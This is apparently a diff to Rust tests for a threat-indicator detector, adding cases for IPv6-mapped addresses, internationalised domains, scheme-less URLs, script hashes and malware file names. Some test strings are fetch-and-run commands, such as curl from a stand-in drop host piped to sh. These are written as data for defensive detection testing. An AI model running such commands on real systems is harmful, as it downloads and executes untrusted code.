@@ -17,10 +17,22 @@ fn detector() -> Detector {
     let texts = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
     let source = IndicatorSource {
         sha256: texts(&[&HASH.to_uppercase()]),
-        addresses: texts(&["203.0.113.9", "198.51.100.0/24", "2001:db8::/32"]),
-        domains: texts(&["Evil.example"]),
+        addresses: texts(&[
+            "203.0.113.9",
+            "198.51.100.0/24",
+            "2001:db8::/32",
+            "2001:DB9:0::7",
+            "::ffff:192.0.2.7",
+            "::ffff:192.0.2.128/121",
+        ]),
+        domains: texts(&["Evil.example", "bücher.example."]),
         md5: texts(&[MD5]),
-        urls: texts(&["HTTP://Drop.example:80/x/a.sh", "https://drop.example/y?id=1"]),
+        urls: texts(&[
+            "HTTP://Drop.example:80/x/a.sh",
+            "http://drop.example/b,c;d(1).sh",
+            "https://drop.example/y?id=1",
+            "http://пример.рф./z",
+        ]),
         file_names: texts(&["/tmp/.x/agent", "Kinsing"]),
     };
     Detector::compile(&[], &source).unwrap()
@@ -78,6 +90,15 @@ fn addresses_exactly_by_range_and_by_direction() {
         ("connect: {to: 198.51.100.77, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
         ("connect: {to: '2001:db8::5', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
         ("accept: {from: 203.0.113.9, port: 1, by: {exe: /x}}", Some(("indicator.address_accepted", 0))),
+        ("connect: {to: '2001:db9::7', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
+        ("connect: {to: 192.0.2.7, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
+        ("connect: {to: 192.0.2.200, port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
+        ("connect: {to: '::ffff:198.51.100.1', port: 1, by: {exe: /x}}", Some(("indicator.address", 1))),
+        ("connect: {to: 192.0.2.127, port: 1, by: {exe: /x}}", None),
+        ("connect: {to: '2001:db9::8', port: 1, by: {exe: /x}}", None),
+        ("connect: {to: '2001:dba::', port: 1, by: {exe: /x}}", None),
+        // The same bytes in IPv6 are another address.
+        ("connect: {to: '::198.51.100.1', port: 1, by: {exe: /x}}", None),
         ("connect: {to: 203.0.113.10, port: 1, by: {exe: /x}}", None),
         ("connect: {to: 198.51.101.1, port: 1, by: {exe: /x}}", None),
     ] {
@@ -93,7 +114,12 @@ fn domains_with_all_below_them() {
         ("evil.example", true),
         ("EVIL.example.", true),
         ("a.b.evil.example", true),
+        ("xn--bcher-kva.example", true),
+        ("WWW.XN--BCHER-KVA.example.", true),
+        ("bcher.example", false),
         ("notevil.example", false),
+        ("evil.example.evil", false),
+        ("evil-example", false),
         ("example", false),
         ("evil.example.org", false),
     ] {
@@ -144,6 +170,15 @@ fn urls_wherever_they_stand() {
         ("[curl, 'http://drop.example/x/a.sh?from=7#top']", true),
         ("[curl, 'http://user:secret@drop.example/x/a.sh']", true),
         ("[curl, 'https://drop.example/y?id=1']", true),
+        ("[curl, 'http://drop.example./x/a.sh']", true),
+        ("[curl, 'http://ПРИМЕР.рф/z']", true),
+        ("[curl, 'http://xn--e1afmkfd.xn--p1ai/z']", true),
+        ("[sh, -c, 'a=$(curl http://drop.example/b,c;d(1).sh)']", true),
+        // The program takes the scheme for granted.
+        ("[curl, -o, /tmp/a, drop.example/x/a.sh]", true),
+        ("[sh, -c, 'curl -s Drop.example/y?id=1|sh']", true),
+        ("[curl, drop.example/x/b.sh]", false),
+        ("[ls, /drop.example/x/a.sh]", false),
         ("[curl, 'https://drop.example/y']", false),
         ("[curl, 'https://drop.example/x/a.sh']", false),
         ("[curl, 'http://drop.example/x/a.sh2']", false),
@@ -155,6 +190,22 @@ fn urls_wherever_they_stand() {
 }
 
 #[test]
+fn scripts_by_hash_by_name_and_by_url() {
+    let script = |path: &str, sha256: &str, content: &str| {
+        let mut event =
+            event(&format!("script: {{source: file, path: {path}, content: '{content}', by: {{exe: /bin/bash}}}}"));
+        let Activity::Script { script } = &mut event.activity else { unreachable!() };
+        script.sha256 = (!sha256.is_empty()).then(|| sha256.parse().unwrap());
+        hit(&event)
+    };
+    assert_eq!(script("/srv/x.sh", &"a".repeat(64), "true"), None);
+    let kill = words(&["kill_tree"]);
+    assert_eq!(script("/srv/x.sh", HASH, ""), Some(("indicator.sha256_script".to_owned(), kill)));
+    assert_eq!(script("/srv/Kinsing", "", "").unwrap().0, "indicator.file_name");
+    assert_eq!(script("/srv/x.sh", "", "curl http://drop.example/x/a.sh").unwrap().0, "indicator.url");
+}
+
+#[test]
 fn file_names_by_path_and_by_name() {
     for (text, wanted) in [
         ("launch: {exe: /tmp/.x/agent}", Some("indicator.file_name")),
@@ -163,6 +214,9 @@ fn file_names_by_path_and_by_name() {
         ("launch: {exe: /dev/shm/kinsing}", None),
         ("write: {path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
         ("rename: {from: /root/k, path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
+        ("create: {path: /root/Kinsing, by: {exe: /x}}", Some("indicator.file_name_written")),
+        ("create: {path: /tmp/.x/agent/Kinsing2, by: {exe: /x}}", None),
+        ("module: {name: k, path: /opt/Kinsing, by: {exe: /sbin/insmod}}", Some("indicator.file_name")),
         ("delete: {path: /root/Kinsing, by: {exe: /x}}", None),
     ] {
         assert_eq!(hit(&event(text)).map(|(rule, _)| rule), wanted.map(str::to_owned), "{text}");
@@ -204,8 +258,21 @@ proptest! {
     }
 
     #[test]
+    fn halves_find_what_the_whole_mark_finds(
+        marks in prop::collection::vec((0..4_u64, 0..4_u64), 0..12),
+        asked in prop::collection::vec((0..4_u64, 0..4_u64), 0..12),
+    ) {
+        let mark = |(upper, lower): &(u64, u64)| u128::from(*upper) << 64 | u128::from(*lower);
+        let table = Table::new(marks.iter().map(mark).collect());
+        for half in &asked {
+            prop_assert_eq!(table.contains_halves(half.0, || half.1), marks.contains(half));
+        }
+    }
+
+    #[test]
     fn no_text_breaks_the_search_for_urls(text in "[ -~:/é]{0,60}(://)?[ -~é]{0,30}") {
-        prop_assert!(super::name::urls_in(&text, 64).count() <= 64);
+        prop_assert!(super::name::bare_urls_in(&text, 64).count() <= 64 * 9 * 3);
+        prop_assert!(super::name::urls_in(&text, 64).count() <= 64 * 9);
         prop_assert!(super::name::url(&text).is_ok() || super::name::url(&text).unwrap_err().contains(&text));
     }
 }
